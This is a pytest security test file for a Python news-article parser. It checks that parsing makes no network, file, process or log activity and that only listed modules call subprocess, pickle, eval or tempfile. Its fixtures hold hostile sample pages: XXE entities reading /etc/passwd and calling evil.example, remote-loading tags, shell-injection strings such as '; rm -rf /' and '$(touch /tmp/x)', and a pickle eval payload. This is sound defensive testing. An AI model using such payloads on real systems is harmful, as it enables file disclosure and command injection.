"""Reading pages touches nothing outside: no socket, no file but those named, no process, no log above DEBUG."""

from __future__ import annotations

import ast
import json
import re
import subprocess
import sys
from functools import cache
from pathlib import Path

import pytest

from tests.fuzz.run import case_of

#: Runs in an interpreter of its own: after newsparse is loaded, every event that leaves the process is noted.
_WATCH = r"""
import json, logging, sys, warnings
seen = []
class Loud(logging.Handler):
    def emit(self, record): seen.append(f"log {record.levelname}: {record.name}")
logging.getLogger().addHandler(Loud(logging.INFO)); logging.getLogger().setLevel(logging.INFO)
warnings.simplefilter("error")
import newsparse, dateparser
from newsparse.export.jsonld import to_jsonld_script
from newsparse.export.terminal import to_terminal

QUIET = ("import", "compile", "exec", "marshal.", "object.__getattr__", "object.__setattr__", "object.__delattr__", "sys._getframe", "code.__new__", "builtins.id", "gc.", "cpython.", "sys.addaudithook", "sys.unraisablehook", "os.listdir", "os.scandir", "ctypes.", "_thread.", "re.", "function.__new__", "time.sleep")
def hook(event, arguments):
    if event.startswith(QUIET): return
    if event == "open" and isinstance(arguments[0], (str, bytes)):
        name = arguments[0] if isinstance(arguments[0], str) else arguments[0].decode("utf-8", "replace")
        if arguments[1] in ("r", "rb", None) and (name.endswith((".py", ".pyc", ".so")) or "site-packages" in name or "zoneinfo" in name or "/lib/python" in name or "/newsparse/" in name or "/proc/" in name):
            return
    seen.append(f"{event} {arguments!r:.200}")
pages = json.load(sys.stdin)
sys.addaudithook(hook)
for html in pages:
    try: article = newsparse.parse(html.encode("utf-8", "surrogatepass"), "https://www.eastmere-post.example/a", min_probability=0.0)
    except newsparse.NotAnArticle: continue
    article.to_html(), article.to_markdown(), to_jsonld_script(article), article.to_ninjs(), article.to_dict(), to_terminal(article), article.model_dump_json(), str(article), repr(article), article._repr_html_()
    try: newsparse.explain(html), newsparse.inspect(html)
    except newsparse.NotAnArticle: pass
    try: newsparse.parse_text(article.text)
    except newsparse.NotAnArticle: pass
newsparse.parse("<h1>Pier 2 reopens</h1><p>x</p>", min_probability=0.0)
print(json.dumps(seen))
"""
_XXE = (
    '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY secret SYSTEM "file:///etc/passwd"><!ENTITY far SYSTEM "http://evil.example/x">'
    '<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>'
    "<html><head><title>Pier 2 reopens &secret;</title></head><body><h1>Pier 2 reopens</h1><p>&secret; and &far; {}</p></body></html>"
)
_LOADING = (
    '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://evil.example/xhtml1-strict.dtd"><html manifest="http://evil.example/m"><head>'
    '<title>Pier 2 reopens</title><meta http-equiv="refresh" content="0;url=http://evil.example/"><base href="http://evil.example/"><link rel="stylesheet" href="http://evil.example/x.css">'
    '<script src="http://evil.example/x.js"></script><style>@import "http://evil.example/y.css";</style><link rel="amphtml" href="http://evil.example/amp">'
    '<script type="application/ld+json">{{"@context":"http://evil.example/context.jsonld","@type":"NewsArticle","headline":"Pier 2 reopens","url":"http://evil.example/","image":"http://evil.example/a.jpg"}}</script></head>'
    '<body><h1>Pier 2 reopens</h1><img src="http://evil.example/a.jpg" srcset="http://evil.example/b.jpg 2x"><iframe src="http://evil.example/frame"></iframe><xi:include href="file:///etc/passwd" parse="text"/>'
    '<object data="file:///etc/passwd"></object><embed src="file:///etc/passwd"><p>{} %s %n {{0.__class__}} $(touch /tmp/x) `id` ; rm -rf / | ../../etc/passwd \\N{{BULLET}}</p></body></html>'
)
_PLAIN = "The second pier of the old harbour opened on Monday after ten years of work, the port office said to reporters. " * 4
HOSTILE_PAGES = [
    _XXE.format(_PLAIN), _LOADING.format(_PLAIN), "<h1>%s%n{0}</h1>" + f"<p>{_PLAIN}</p><time>gestern um 10</time><time>12 Mrz 2026 um 25:00</time><p class=date>ayer a las 10</p>",
    "<h1>Pier</h1>" + "<div>" * 400 + _PLAIN, "<h1>../../etc/passwd</h1><p>c__builtin__\neval\n(S'1'\ntR." + _PLAIN,
]  # fmt: skip


@pytest.fixture(scope="module")
def events(top: Path) -> list[str]:
    damaged = [case.html if isinstance(case.html, str) else case.html.decode("utf-8", "replace") for case in (case_of(23, number, corpora=False)[0] for number in range(25))]
    pages = HOSTILE_PAGES + damaged + [path.read_text(encoding="utf-8", errors="replace") for path in sorted((top / "samples").glob("*/*.html"))[::5]]
    command = [sys.executable, "-I", "-B", "-c", f"import sys; sys.path.insert(0, {str(top)!r})\n{_WATCH}"]
    done = subprocess.run(command, input=json.dumps(pages), capture_output=True, text=True, timeout=900, check=False)
    assert done.returncode == 0, done.stderr
    assert not done.stderr, done.stderr[:300]
    found: list[str] = json.loads(done.stdout)
    return found


@pytest.mark.slow
def test_no_event_leaves_the_process(events: list[str]) -> None:
    assert not events


def test_the_hook_sees_what_would_leave() -> None:
    code = _WATCH.replace("newsparse.parse(\"<h1>", "open('/tmp/x-newsparse-no-such', 'rb') if 0 else __import__('socket').getaddrinfo('127.0.0.1', 1); open(__file__) if 0 else None; newsparse.parse(\"<h1>")
    done = subprocess.run([sys.executable, "-c", code], input="[]", capture_output=True, text=True, timeout=600, check=True)
    assert "socket.getaddrinfo" in done.stdout


#: What could carry a page's text out of the process: into a shell, code, a pickle, a file, a log.
_CALLS = {
    "a process": ("os.system", "os.popen", "subprocess.", "os.exec", "os.spawn", "pty."),
    "code": ("eval", "exec", "compile", "__import__", "code.interact"),
    "a pickle": ("pickle.", "marshal.", "shelve.", "dill.", "joblib."),
    "XML with entities": ("etree.XMLParser", "etree.XSLT", "etree.iterparse", "xml.", "etree.DTD"),
    "a temporary file": ("tempfile.",),
    "a log": ("logging.", "log.", "logger."),
}
_FILES = frozenset(("open", "read_text", "read_bytes", "write_text", "write_bytes", "unlink", "mkdir", "touch", "rename"))
#: The modules that do any of it, each with its reason. All others, which read pages and write articles, do none.
_ALLOWED = {
    "a process": {
        "comparing/elsewhere.py": "another version of newsparse; pages go to its standard input", "comparing/readers.py": "git, by a list of arguments, for a revision that the user names",
        "pipeline/launch.py": "workers, by a list of arguments", "publishers/__main__.py": "lists newsparse's own classes",
    },
    "a pickle": {"pipeline/wire.py": "what workers and caller send each other over their own pair of sockets", "pipeline/compact.py": "the same, written shorter", "pipeline/worker.py": "the same, tried on an error of a plug-in's own class", "pipeline/batch/rows.py": "the job of workers"},
    "a temporary file": {"comparing/elsewhere.py": "what another version says of its failure", "comparing/readers.py": "a revision's source", "pipeline/launch.py": "the stack of a worker that dies"},
    "a file": {
        "checking/corpus.py": "named by its index", "checking/pages.py": "named by the user", "checking/sample.py": "in a folder that the user names", "cli/__init__.py": "the null device", "cli/inspect.py": "named by the user",
        "cli/output.py": "named by the user", "files.py": "named by the user", "comparing/readers.py": "an archive in memory", "comparing/saved.py": "named by the user", "pipeline/batch/local_folder.py": "in a folder that the user names",
        "pipeline/batch/manifest.py": "rules that the user names", "pipeline/batch/run.py": "numbered, in that folder", "pipeline/stores.py": "named by the user", "publishers/__main__.py": "newsparse's own list",
        "scaffold/write.py": "named by the host in the address that the user gives, letters and digits alone", "seeing/folder.py": "named by the page's file, what is unsafe replaced", "seeing/report.py": "style sheets of its own",
    },
}  # fmt: skip


@cache
def _tree(path: Path) -> ast.Module:
    return ast.parse(path.read_text(encoding="utf-8"))


@cache
def _calls(path: Path) -> list[tuple[int, str, ast.Call]]:
    return [(node.lineno, _dotted(node.func), node) for node in ast.walk(_tree(path)) if isinstance(node, ast.Call)]


def _dotted(node: ast.expr) -> str:
    """The name of what is called; of a method of something made on the spot, the method's."""
    if isinstance(node, ast.Attribute):
        return f"{_dotted(node.value)}.{node.attr}"
    return node.id if isinstance(node, ast.Name) else ""


#: Any word that what is looked for holds; most modules have none, and are not looked through.
_SUSPECT = re.compile(rf"\b(?:os|subprocess|pty|eval|exec|compile|__import__|code|pickle|marshal|shelve|dill|joblib|etree|xml|tempfile|logging|log|logger|{'|'.join(_FILES)})\b|\.format|%")


@cache
def _modules(top: Path) -> list[tuple[str, Path]]:
    package = top / "newsparse"
    return [(path.relative_to(package).as_posix(), path) for path in sorted(package.rglob("*.py")) if _SUSPECT.search(path.read_text(encoding="utf-8"))]


def _is_any(name: str, calls: tuple[str, ...]) -> bool:
    return any(name == call or ("." in call and name.startswith(call)) for call in calls)


@pytest.mark.slow
@pytest.mark.parametrize("what", _CALLS)
def test_only_these_modules_call(what: str, top: Path) -> None:
    calling = {name for name, path in _modules(top) if any(_is_any(called, _CALLS[what]) for _, called, _ in _calls(path))}
    assert calling == set(_ALLOWED.get(what, ()))


def test_only_these_modules_touch_a_file(top: Path) -> None:
    touching = {name for name, path in _modules(top) if any(called.rpartition(".")[2] in _FILES for _, called, _ in _calls(path))}
    assert touching == set(_ALLOWED["a file"])


def test_no_process_is_started_through_a_shell(top: Path) -> None:
    started = [(name, node) for name, path in _modules(top) for _, called, node in _calls(path) if called.startswith("subprocess.")]
    assert started
    for name, node in started:
        assert not any(word.arg == "shell" for word in node.keywords), name


#: Names of values of a module's own table of templates.
_TEMPLATES = frozenset(("address",))


def test_no_text_of_a_page_is_a_format_string(top: Path) -> None:
    """``.format`` only on literals and constants of a module, ``%`` on numbers and literals."""
    found = []
    for name, path in _modules(top):
        for line, called, call in _calls(path):
            owner = call.func.value if isinstance(call.func, ast.Attribute) and call.func.attr in ("format", "format_map") else None
            if owner is not None and not isinstance(owner, ast.Constant) and not ast.unparse(owner).lstrip("_").isupper() and ast.unparse(owner) not in _TEMPLATES:
                found.append(f"{name}:{line} {called}")
        for node in ast.walk(_tree(path)):
            if isinstance(node, ast.BinOp) and isinstance(node.op, ast.Mod) and not isinstance(node.left, ast.Constant):
                number = isinstance(node.right, ast.Constant) and isinstance(node.right.value, int)
                found += [] if number else [f"{name}:{node.lineno} {ast.unparse(node)}"]
    assert not found
